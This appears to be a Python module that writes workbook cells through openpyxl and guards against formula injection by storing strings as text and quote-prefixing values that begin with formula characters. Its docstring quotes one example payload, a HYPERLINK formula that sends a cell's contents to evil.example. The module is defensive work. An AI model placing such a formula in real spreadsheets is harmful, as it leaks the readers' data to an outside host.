"""Cells of the workbooks the product writes (the batch summary of the CLI and the service, the cluster template):
every value goes through `cell_of`, so that text is always stored as text.

openpyxl turns a string that starts with "=" into a formula and "#N/A" into an error value; a site name like
`=HYPERLINK("http://evil.example/?d="&A1,"Открыть")` would then run in the reader's Excel. Here a string is always a
string cell, and one that a spreadsheet would take for a formula (it starts with = + - @, a tab or a line break) is
also marked "quote prefix": Excel and LibreOffice show it as text and keep it text when the cell is edited, while the
value stays exactly what the user typed (a filled template reads back unchanged). Control characters, which a
workbook cannot hold (openpyxl refuses to write them), become U+FFFD. Numbers, dates and booleans stay what they are."""
from __future__ import annotations

from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def cell_of(ws, value: Any, row: int | None = None, column: int | None = None):
    """A cell of `ws` holding `value` (text as text): the cell at (row, column) when given, else a new cell for
    `ws.append`."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cell = ws.cell(row, column) if row is not None else Cell(ws)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula or an error value
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def append_row(ws, values: Iterable[Any]) -> None:
    """`ws.append(values)`, every value through `cell_of`."""
    ws.append([cell_of(ws, v) for v in values])
